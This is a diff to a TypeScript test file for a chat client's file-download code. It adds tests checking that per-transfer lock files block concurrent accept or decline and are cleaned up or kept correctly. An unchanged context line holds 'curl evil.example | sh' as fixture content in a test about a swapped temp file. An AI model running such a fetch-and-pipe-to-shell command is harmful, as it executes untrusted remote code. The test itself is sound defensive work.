@@ -13,7 +13,8 @@ import { makeUser, relayInProcess, tempDir, type InProcessRelay } from '../../..
 import { Messenger } from '../messenger.js';
 import { blobNew, blobPut } from '../net/blobs.js';
 import type { Profile } from '../profile.js';
-import { acceptFile } from './download.js';
+import { tryLock } from '../store/locks.js';
+import { acceptFile, declineFile } from './download.js';
 import { sendFile } from './upload.js';
 
 let t: ReturnType<typeof tempDir>;
@@ -171,6 +172,48 @@ it('a temp file swapped after the last chunk is not published: DOWNLOAD_PATH_UNS
     expect(existsSync(join(dir, 'invoice.txt'))).toBe(false);
     expect(readFileSync(part, 'utf8')).toBe('curl evil.example | sh\n'); // theirs is left where they put it
     expect(m.store.files.get(id)).not.toMatchObject({ state: 'received' });
+  } finally {
+    m.close();
+  }
+});
+
+it('one download of a transfer at a time: while another process holds its claim, accept and decline are DOWNLOAD_BUSY and touch nothing', async () => {
+  // Two `chat files accept` of one offer used to write one `.part` together (hunt2): the claim is the profile's lock
+  // file for that transfer, held here as another process (or another client of the daemon) would hold it.
+  const id = await offerRaw('once.txt', Buffer.from('downloaded once'));
+  const m = await receive();
+  try {
+    const dir = join(t.dir, 'dl-busy');
+    const lockFile = join(m.lockDir, `download-${id}.lock`);
+    const other = tryLock(lockFile)!;
+    expect(other).toBeDefined();
+    const busy = { code: 'DOWNLOAD_BUSY', message: expect.stringContaining('being downloaded or declined by another') };
+    await expect(acceptFile(m, id.slice(0, 8), dir)).rejects.toMatchObject(busy);
+    await expect(declineFile(m, id.slice(0, 8), dir)).rejects.toMatchObject(busy);
+    expect(m.store.files.get(id)).toMatchObject({ state: 'offered', path: null });
+    expect(readdirSync(dir)).toEqual([]); // no `.part` was opened
+    other.release();
+    const got = await acceptFile(m, id, dir);
+    expect(readFileSync(got.path!, 'utf8')).toBe('downloaded once');
+    expect(existsSync(lockFile)).toBe(false); // received for good: its lock file is gone
+    // The other process finishing first is found under the claim: the same answer, no second download.
+    expect((await acceptFile(m, id, join(t.dir, 'dl-busy-2'))).path).toBe(got.path);
+  } finally {
+    m.close();
+  }
+});
+
+it("a declined transfer's lock file goes; a failed download keeps it for the retry, unheld", async () => {
+  const declined = await offerRaw('no.txt', Buffer.from('not wanted'));
+  const bad = await offerRaw('bad.txt', Buffer.from('tampered'), Buffer.alloc(32));
+  const m = await receive();
+  try {
+    await declineFile(m, declined);
+    expect(existsSync(join(m.lockDir, `download-${declined}.lock`))).toBe(false);
+    await expect(acceptFile(m, bad, join(t.dir, 'dl-bad'))).rejects.toMatchObject({ code: 'FILE_HASH_MISMATCH' });
+    const lock = tryLock(join(m.lockDir, `download-${bad}.lock`));
+    expect(lock).toBeDefined(); // released when the download failed
+    lock!.release();
   } finally {
     m.close();
   }
